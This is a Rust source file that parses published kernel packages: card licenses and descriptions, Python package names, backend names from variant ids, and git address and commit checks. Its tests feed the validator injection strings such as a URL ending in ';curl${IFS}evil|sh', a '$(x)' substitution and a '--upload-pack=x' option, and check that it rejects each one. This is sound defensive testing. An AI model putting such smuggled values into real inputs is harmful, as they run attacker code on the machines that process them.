//! What the files of a published kernel say of it, read as far as they are well formed.
//!
//! Owns: the head of a card, the names of a package, the backend of a variant. Never: runs or trusts any of it.

use kernel_plan::units::GitUrl;

/// The license that a card names in its head.
pub fn license(card: &str) -> Option<String> {
    let head = card.strip_prefix("---")?.split("\n---").next()?;
    let line = head.lines().find_map(|line| line.strip_prefix("license:"))?;
    let text = line.trim().trim_matches(['"', '\'']);
    (!text.is_empty()).then(|| text.to_owned())
}

/// The first paragraph of a card that is no heading, in one line.
pub fn about(card: &str) -> Option<String> {
    let body = match card.strip_prefix("---").and_then(|rest| rest.split_once("\n---")) {
        Some((_, body)) => body,
        None => card,
    };
    let lines = body
        .lines()
        .map(str::trim)
        .skip_while(|line| line.is_empty() || line.starts_with(['#', '!', '[', '<']));
    let text = lines.take_while(|line| !line.is_empty()).collect::<Vec<_>>().join(" ");
    (!text.is_empty()).then_some(text)
}

/// The public names of a Python package: of `__all__`, else what is defined or imported at the margin.
pub fn names(package: &str) -> Vec<String> {
    let public = |name: &str| {
        !name.is_empty()
            && !name.starts_with('_')
            && name.chars().all(|letter| letter.is_ascii_alphanumeric() || letter == '_')
    };
    if let Some((_, list)) = package.split_once("__all__").and_then(|(_, rest)| rest.split_once('['))
        && let Some((list, _)) = list.split_once(']')
    {
        let quoted = list.split(['"', '\'']).skip(1).step_by(2);
        return quoted.filter(|name| public(name)).map(str::to_owned).collect();
    }
    let mut found: Vec<String> = Vec::new();
    for line in package.lines() {
        if let Some(rest) = line.strip_prefix("def ").or_else(|| line.strip_prefix("class ")) {
            found.push(rest.split(['(', ':']).next().unwrap_or_default().trim().to_owned());
        } else if let Some((_, list)) =
            line.strip_prefix("from .").and_then(|rest| rest.split_once(" import "))
        {
            let names = list.trim_matches(['(', ')']).split(',');
            found.extend(names.filter_map(|name| Some(name.split_whitespace().last()?.to_owned())));
        }
    }
    found.retain(|name| public(name));
    found.dedup();
    found
}

/// Whether people may be told to clone it: the address of a repository that is one word for every shell.
pub fn is_address(text: &str) -> bool {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.:/@+~".contains(&byte);
    text.bytes().all(plain) && !text.starts_with('-') && text.parse::<GitUrl>().is_ok()
}

/// Whether it is a commit of git.
pub fn is_commit(text: &str) -> bool {
    (7..=64).contains(&text.len()) && text.bytes().all(|byte| byte.is_ascii_hexdigit())
}

/// Words of variants' ids, by how they begin, and the backend that each is of.
const WORDS: &[(&str, &str)] = &[
    ("rocm", "rocm"),
    ("xpu", "xpu"),
    ("metal", "metal"),
    ("cann", "cann"),
    ("npu", "cann"),
    ("neuron", "neuron"),
    ("tpu", "tpu"),
    ("cpu", "cpu"),
];
/// The backends that can be looked for.
pub const BACKENDS: &[&str] = &["cuda", "rocm", "xpu", "metal", "cann", "neuron", "tpu", "cpu"];

/// The backend of a variant, by its id; nothing for one that is for all.
pub fn backend(variant: &str) -> Option<&'static str> {
    let is_cuda = |word: &str| {
        word == "cuda"
            || word
                .strip_prefix("cu")
                .is_some_and(|rest| !rest.is_empty() && rest.bytes().all(|byte| byte.is_ascii_digit()))
    };
    variant.split('-').skip(1).find_map(|word| {
        let other = || WORDS.iter().find(|(begin, _)| word.starts_with(begin)).map(|(_, name)| *name);
        if is_cuda(word) { Some("cuda") } else { other() }
    })
}

/// The backends of variants, each once, in their order.
pub fn backends(variants: &[String]) -> Vec<&'static str> {
    let mut found: Vec<&'static str> = Vec::new();
    for name in variants.iter().map(|variant| backend(variant).unwrap_or("any")) {
        if !found.contains(&name) {
            found.push(name);
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_card_says_license_and_what_it_is() {
        let card =
            "---\nlibrary_name: kernels\nlicense: \"apache-2.0\"\n---\n\n# k\n\nA norm\nof rows.\n\nMore.\n";
        assert_eq!(license(card).as_deref(), Some("apache-2.0"));
        assert_eq!(about(card).as_deref(), Some("A norm of rows."));
        assert_eq!((license("# k"), about("# k\n")), (None, None));
    }

    #[test]
    fn a_package_says_its_names() {
        assert_eq!(
            names("from ._ops import ops\n__all__ = [\n  \"rms_norm\", 'layers',\n]\n"),
            ["rms_norm", "layers"]
        );
        let plain = "import torch\nfrom ._ops import ops\nfrom .a import (b, c as d)\ndef run(x):\n    def inner(): ...\nclass Norm:\n_x = 1\n";
        assert_eq!(names(plain), ["ops", "b", "d", "run", "Norm"]);
        assert!(names("def broken\n__all__ = [\"x y\"]").is_empty());
    }

    #[test]
    fn what_people_are_told_to_run_is_one_word_for_a_shell() {
        for fine in ["https://github.com/a/fast-rms", "git@github.com:a/b.git", "ssh://git@host:22/~a/b"] {
            assert!(is_address(fine), "{fine}");
        }
        for bad in
            ["https://h/a;curl${IFS}evil|sh", "https://h/$(x)", "https://h/a b", "--upload-pack=x", "a/b", ""]
        {
            assert!(!is_address(bad), "{bad}");
        }
        assert!(is_commit("0123abcd") && !is_commit("c0ffee;x") && !is_commit("main") && !is_commit(""));
    }

    #[test]
    fn a_variant_says_its_backend() {
        assert!(WORDS.iter().all(|(_, name)| BACKENDS.contains(name)));
        let cases = [
            ("torch213-cxx11-cu130-x86_64-linux", Some("cuda")),
            ("torch-stable-abi29-cu130-x86_64-linux", Some("cuda")),
            ("torch-cuda", Some("cuda")),
            ("torch213-cxx11-rocm71-x86_64-linux", Some("rocm")),
            ("torch213-metal-aarch64-darwin", Some("metal")),
            ("torch-cpu", Some("cpu")),
            ("torch-universal", None),
        ];
        for (variant, expected) in cases {
            assert_eq!(backend(variant), expected, "{variant}");
        }
        let variants = ["torch-cpu", "torch-universal", "torch28-cpu-x86_64-linux"].map(str::to_owned);
        assert_eq!(backends(&variants), ["cpu", "any"]);
    }
}
